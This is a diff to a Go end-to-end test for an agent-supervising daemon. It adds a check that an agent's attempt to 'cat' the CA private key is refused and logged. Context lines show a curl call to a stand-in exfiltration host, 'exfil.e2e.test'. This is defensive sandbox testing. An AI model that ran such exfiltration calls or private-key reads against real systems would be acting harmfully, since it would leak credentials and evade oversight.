@@ -226,7 +226,13 @@ func TestDaemon(t *testing.T) {
 	need(t, "curl", "sh")
 	w := newWorldAt(t, t.TempDir(), "127.0.34.2", "127.0.34.3")
 	d := w.startDaemon(t)
-	daemonCA := certs.CertFile(filepath.Join(w.dir, "state"))
+	// The daemon's CA, outside its state, which is not the agents' to read.
+	daemonCA := filepath.Join(w.dir, "daemon-ca.pem")
+	if b, err := os.ReadFile(certs.CertFile(filepath.Join(w.dir, "state"))); err != nil {
+		t.Fatal(err)
+	} else if err := os.WriteFile(daemonCA, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
 	port := strconv.Itoa(int(w.api.Addr.Port()))
 	exfilPort := strconv.Itoa(int(w.exfil.Addr.Port()))
 	claude := installAgent(t, "claude")
@@ -313,6 +319,25 @@ curl -fsS --cacert "$1" --resolve "exfil.e2e.test:$3:127.0.34.3" "https://exfil.
 		w.waitRecord(t, "the adopted process's connect record", func(r telemetry.Record) bool {
 			return r.Session == s.Session && r.Kind == event.KindConnect && r.Dst == echo.addr
 		})
+	})
+
+	t.Run("Chaperone's state is not the agent's to read", func(t *testing.T) {
+		key := certs.KeyFile(filepath.Join(w.dir, "state"))
+		cmd := exec.Command(claude, "exec", "cat", key)
+		out, err := cmd.CombinedOutput()
+		if err == nil || strings.Contains(string(out), "PRIVATE KEY") {
+			t.Fatalf("the agent read the CA key: %v", err)
+		}
+		if !strings.Contains(string(out), "Operation not permitted") {
+			t.Errorf("the agent's cat: %s", out)
+		}
+		s := w.waitSession(t, "claude", cmd.Process.Pid)
+		w.waitRecord(t, "the refused open", func(r telemetry.Record) bool {
+			return r.Session == s.Session && r.Kind == event.KindFile && r.Path == key && r.Verdict == event.Deny
+		})
+		if b, err := os.ReadFile(key); err != nil || !strings.Contains(string(b), "PRIVATE KEY") {
+			t.Errorf("an unrelated process (the test) cannot read the key: %v", err)
+		}
 	})
 
 	t.Run("a malformed control message gets a clear error", func(t *testing.T) {
